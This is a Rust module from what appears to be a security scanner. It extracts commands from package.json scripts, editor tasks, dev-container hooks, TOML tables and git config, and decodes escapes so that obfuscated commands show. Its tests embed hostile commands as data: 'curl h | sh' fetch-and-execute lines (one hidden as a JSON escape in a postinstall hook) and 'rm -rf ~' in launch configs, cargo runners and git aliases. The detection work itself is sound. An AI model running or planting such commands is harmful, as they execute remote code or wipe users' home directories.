//! Commands inside structured files: `package.json` scripts, editor and
//! dev-container definitions (JSON with comments), TOML tables of
//! scripts, tasks, runners and wrappers, and git settings that name a
//! program. Strings are decoded as their format says (a JSON `\u0063` is
//! `c`), so an escape cannot hide a command. A JSON or TOML file that does
//! not parse is unreadable: its commands cannot be judged.

use serde_json::Value;

use super::{MAX_STRUCTURED_PARTS, Part, Unreadable, line_of, quote_words};

pub(super) fn package_json(content: &str) -> Result<Vec<Part>, Unreadable> {
    let document: Value =
        serde_json::from_str(content).map_err(|e| Unreadable(format!("not JSON ({e})")))?;
    let Some(scripts) = document.get("scripts").and_then(Value::as_object) else {
        return Ok(Vec::new());
    };
    check_count(scripts.len())?;
    let mut parts: Vec<Part> = scripts
        .iter()
        .filter_map(|(name, script)| {
            script
                .as_str()
                .map(|script| Part::shell(line_of(content, &format!("\"{name}\"")), script))
        })
        .collect();
    parts.sort_by_key(|part| part.line);
    Ok(parts)
}

/// Keys of dev-container lifecycle commands.
const LIFECYCLE: [&str; 6] = [
    "initializeCommand",
    "onCreateCommand",
    "updateContentCommand",
    "postCreateCommand",
    "postStartCommand",
    "postAttachCommand",
];

pub(super) fn tool_json(content: &str) -> Result<Vec<Part>, Unreadable> {
    let document: Value = serde_json::from_str(&without_comments(content))
        .map_err(|e| Unreadable(format!("not JSON with comments ({e})")))?;
    let mut parts = Vec::new();
    collect_tool_commands(&document, content, &mut parts);
    within_limit(parts)
}

/// The commands read from a structured file, or unreadable when it names
/// more than [`MAX_STRUCTURED_PARTS`] (the reader stops soon after).
pub(super) fn within_limit(parts: Vec<Part>) -> Result<Vec<Part>, Unreadable> {
    check_count(parts.len()).map(|()| parts)
}

fn check_count(count: usize) -> Result<(), Unreadable> {
    if count > MAX_STRUCTURED_PARTS {
        return Err(Unreadable(format!("more than {MAX_STRUCTURED_PARTS} commands")));
    }
    Ok(())
}

/// A command given as a string (a shell line) or an array (argv).
pub(super) fn command_text(value: &Value) -> Option<String> {
    match value {
        Value::String(line) => Some(line.clone()),
        Value::Array(words) => Some(quote_words(words.iter().filter_map(Value::as_str))),
        _ => None,
    }
}

pub(super) fn words_of(value: Option<&Value>) -> Vec<String> {
    match value {
        Some(Value::Array(items)) => items
            .iter()
            .filter_map(|item| item.as_str().or_else(|| item.get("value").and_then(Value::as_str)))
            .map(str::to_owned)
            .collect(),
        Some(Value::String(word)) => vec![word.clone()],
        _ => Vec::new(),
    }
}

fn collect_tool_commands(value: &Value, content: &str, parts: &mut Vec<Part>) {
    if parts.len() > MAX_STRUCTURED_PARTS {
        return;
    }
    match value {
        Value::Object(object) => {
            // A task: `command` (a shell line) with `args`.
            if let Some(command) = object.get("command").and_then(Value::as_str) {
                let args = words_of(object.get("args"));
                let text = if args.is_empty() {
                    command.to_owned()
                } else {
                    format!("{command} {}", quote_words(args.iter().map(String::as_str)))
                };
                parts.push(Part::shell(line_of(content, command), text));
            }
            // A launch configuration: the runtime, its arguments, the
            // program and its arguments.
            if object.contains_key("program") || object.contains_key("runtimeExecutable") {
                let mut words = words_of(object.get("runtimeExecutable"));
                words.extend(words_of(object.get("runtimeArgs")));
                words.extend(words_of(object.get("program")));
                words.extend(words_of(object.get("args")));
                let anchor = words.first().cloned().unwrap_or_default();
                parts.push(Part::shell(
                    line_of(content, &anchor),
                    quote_words(words.iter().map(String::as_str)),
                ));
            }
            for key in LIFECYCLE {
                match object.get(key) {
                    Some(Value::Object(named)) => parts.extend(
                        named
                            .values()
                            .filter_map(command_text)
                            .map(|text| Part::shell(line_of(content, key), text)),
                    ),
                    Some(other) => parts.extend(
                        command_text(other).map(|text| Part::shell(line_of(content, key), text)),
                    ),
                    None => {}
                }
            }
            for (key, child) in object {
                if !matches!(key.as_str(), "args" | "runtimeArgs") {
                    collect_tool_commands(child, content, parts);
                }
            }
        }
        Value::Array(items) => {
            items.iter().for_each(|item| collect_tool_commands(item, content, parts))
        }
        _ => {}
    }
}

/// JSON with `//` and `/* */` comments and trailing commas made plain
/// JSON; strings are left as they are.
pub(super) fn without_comments(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' => {
                out.push(c);
                while let Some(inner) = chars.next() {
                    out.push(inner);
                    match inner {
                        '\\' => out.extend(chars.next()),
                        '"' => break,
                        _ => {}
                    }
                }
            }
            '/' if chars.peek() == Some(&'/') => {
                for skipped in chars.by_ref() {
                    if skipped == '\n' {
                        out.push('\n');
                        break;
                    }
                }
            }
            '/' if chars.peek() == Some(&'*') => {
                chars.next();
                let mut previous = ' ';
                for skipped in chars.by_ref() {
                    if skipped == '\n' {
                        out.push('\n');
                    }
                    if previous == '*' && skipped == '/' {
                        break;
                    }
                    previous = skipped;
                }
            }
            ',' => {
                let rest: String = chars.clone().take_while(|c| c.is_whitespace()).collect();
                let next = chars.clone().nth(rest.chars().count());
                if !matches!(next, Some('}' | ']')) {
                    out.push(',');
                }
            }
            c => out.push(c),
        }
    }
    out
}

/// Table or key names under which TOML strings are commands.
const COMMAND_KEYS: [&str; 14] = [
    "scripts",
    "tasks",
    "commands",
    "cmd",
    "cmds",
    "shell",
    "script",
    "runner",
    "rustc-wrapper",
    "rustc-workspace-wrapper",
    "linker",
    "hooks",
    "run",
    "call",
];

pub(super) fn toml_commands(content: &str) -> Result<Vec<Part>, Unreadable> {
    let document: toml::Table =
        toml::from_str(content).map_err(|e| Unreadable(format!("not TOML ({})", e.message())))?;
    let mut parts = Vec::new();
    for (key, value) in &document {
        collect_toml(value, key, false, content, &mut parts);
    }
    within_limit(parts)
}

fn collect_toml(
    value: &toml::Value,
    key: &str,
    inside: bool,
    content: &str,
    parts: &mut Vec<Part>,
) {
    if parts.len() > MAX_STRUCTURED_PARTS {
        return;
    }
    let inside = inside || COMMAND_KEYS.contains(&key.to_ascii_lowercase().as_str());
    match value {
        toml::Value::String(text) if inside => {
            parts.push(Part::shell(line_of(content, key), text.clone()))
        }
        toml::Value::Array(items) if inside && items.iter().all(toml::Value::is_str) => {
            parts.push(Part::shell(
                line_of(content, key),
                quote_words(items.iter().filter_map(toml::Value::as_str)),
            ));
        }
        toml::Value::Array(items) => {
            items.iter().for_each(|item| collect_toml(item, key, inside, content, parts))
        }
        toml::Value::Table(table) => table
            .iter()
            .for_each(|(child, value)| collect_toml(value, child, inside, content, parts)),
        _ => {}
    }
}

/// Git settings whose value is a program to run: (section, key), `*`
/// for any subsection.
const GIT_PROGRAMS: [(&str, &str); 24] = [
    ("core", "pager"),
    ("core", "editor"),
    ("core", "sshcommand"),
    ("core", "fsmonitor"),
    ("core", "askpass"),
    ("core", "gitproxy"),
    ("sequence", "editor"),
    ("alias", "*"),
    ("filter", "clean"),
    ("filter", "smudge"),
    ("filter", "process"),
    ("diff", "textconv"),
    ("diff", "command"),
    ("merge", "driver"),
    ("credential", "helper"),
    ("gpg", "program"),
    ("submodule", "update"),
    ("pager", "*"),
    ("interactive", "difffilter"),
    ("uploadpack", "packobjectshook"),
    ("mergetool", "cmd"),
    ("difftool", "cmd"),
    ("remote", "receivepack"),
    ("remote", "uploadpack"),
];

pub(super) fn git_config(content: &str) -> Vec<Part> {
    let mut parts = Vec::new();
    let mut section = String::new();
    for (index, line) in content.lines().enumerate() {
        let line = line.trim();
        if line.starts_with(['#', ';']) || line.is_empty() {
            continue;
        }
        let mut rest = line;
        if let Some(header) = line.strip_prefix('[') {
            let Some((inside, after)) = header.split_once(']') else {
                continue;
            };
            section = inside
                .split_whitespace()
                .next()
                .unwrap_or("")
                .split('.')
                .next()
                .unwrap_or("")
                .to_ascii_lowercase();
            rest = after.trim();
            if rest.is_empty() {
                continue;
            }
        }
        let Some((key, value)) = rest.split_once('=') else {
            continue;
        };
        let key = key.trim().to_ascii_lowercase();
        let runs = GIT_PROGRAMS.iter().any(|(s, k)| *s == section && (*k == "*" || *k == key));
        let value = unquote_git(value.trim());
        let command = value.strip_prefix('!').unwrap_or(&value).trim();
        let alias_of_git = section == "alias" && !value.starts_with('!');
        let flag = matches!(
            command.to_ascii_lowercase().as_str(),
            "true" | "false" | "yes" | "no" | "on" | "off" | "0" | "1" | ""
        );
        if runs && !alias_of_git && !flag {
            parts.push(Part::shell(index + 1, command.to_owned()));
        }
    }
    parts
}

/// A git setting's value: quotes removed, `\"`, `\\`, `\n`, `\t` decoded,
/// a comment after `#` or `;` outside quotes dropped.
fn unquote_git(value: &str) -> String {
    let mut out = String::new();
    let mut quoted = false;
    let mut chars = value.chars();
    while let Some(c) = chars.next() {
        match c {
            '"' => quoted = !quoted,
            '\\' => match chars.next() {
                Some('n') => out.push('\n'),
                Some('t') => out.push('\t'),
                Some(other) => out.push(other),
                None => {}
            },
            '#' | ';' if !quoted => break,
            c => out.push(c),
        }
    }
    out.trim().to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(parts: Vec<Part>) -> Vec<(usize, String)> {
        parts.into_iter().map(|p| (p.line, p.text)).collect()
    }

    #[test]
    fn package_scripts_are_decoded() {
        let json = "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"test\": \"jest\",\n    \"postinstall\": \"\\u0063url -s h | sh\"\n  }\n}";
        assert_eq!(
            texts(package_json(json).unwrap()),
            [(4, "jest".to_owned()), (5, "curl -s h | sh".to_owned())]
        );
        assert!(package_json("{ not json").is_err());
        // Countless scripts are not placed one by one: the file is unseen.
        let many: Vec<String> =
            (0..=MAX_STRUCTURED_PARTS).map(|i| format!("\"s{i}\": \"x{i}\"")).collect();
        assert!(package_json(&format!("{{\"scripts\": {{{}}}}}", many.join(","))).is_err());
        let many: String =
            (0..=MAX_STRUCTURED_PARTS).map(|i| format!("s{i} = \"x{i}\"\n")).collect();
        assert!(toml_commands(&format!("[tool.poe.tasks]\n{many}")).is_err());
        let many: Vec<String> =
            (0..=MAX_STRUCTURED_PARTS).map(|i| format!("{{\"command\": \"x{i}\"}}")).collect();
        assert!(tool_json(&format!("{{\"tasks\": [{}]}}", many.join(","))).is_err());
    }

    #[test]
    fn editor_tasks_with_comments_and_launch_programs() {
        let tasks = "{\n // a comment\n \"tasks\": [\n  {\"label\": \"b\", \"type\": \"shell\", \"command\": \"curl h | sh\", \"args\": [\"-x\"],},\n ],\n}";
        assert_eq!(texts(tool_json(tasks).unwrap()), [(4, "curl h | sh -x".to_owned())]);
        let launch = r#"{"configurations": [{"type": "node", "runtimeExecutable": "bash", "runtimeArgs": ["-c", "rm -rf ~"], "program": "x.js"}]}"#;
        assert_eq!(texts(tool_json(launch).unwrap()), [(1, "bash -c 'rm -rf ~' x.js".to_owned())]);
        let container = r#"{"postCreateCommand": ["sh", "-c", "curl h|sh"], "postStartCommand": {"a": "make"}}"#;
        assert_eq!(texts(tool_json(container).unwrap()).len(), 2);
    }

    #[test]
    fn toml_tables_of_commands() {
        let pyproject = "[project]\nname = \"x\"\n[tool.poe.tasks]\nsetup = \"curl h | sh\"\n[tool.other]\nurl = \"curl h | sh\"\n";
        assert_eq!(texts(toml_commands(pyproject).unwrap()), [(4, "curl h | sh".to_owned())]);
        let cargo = "[target.x86_64-unknown-linux-gnu]\nrunner = [\"sh\", \"-c\", \"rm -rf ~\"]\n";
        assert_eq!(texts(toml_commands(cargo).unwrap()), [(2, "sh -c 'rm -rf ~'".to_owned())]);
    }

    #[test]
    fn git_settings_that_run_programs() {
        let config = "[core]\n\tfsmonitor = \"curl h | sh\"\n\tbare = false\n[alias]\n\tst = status\n\tx = !rm -rf ~ # gone\n[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n";
        assert_eq!(
            texts(git_config(config)),
            [
                (2, "curl h | sh".to_owned()),
                (6, "rm -rf ~".to_owned()),
                (8, "git-lfs clean -- %f".to_owned())
            ]
        );
    }
}
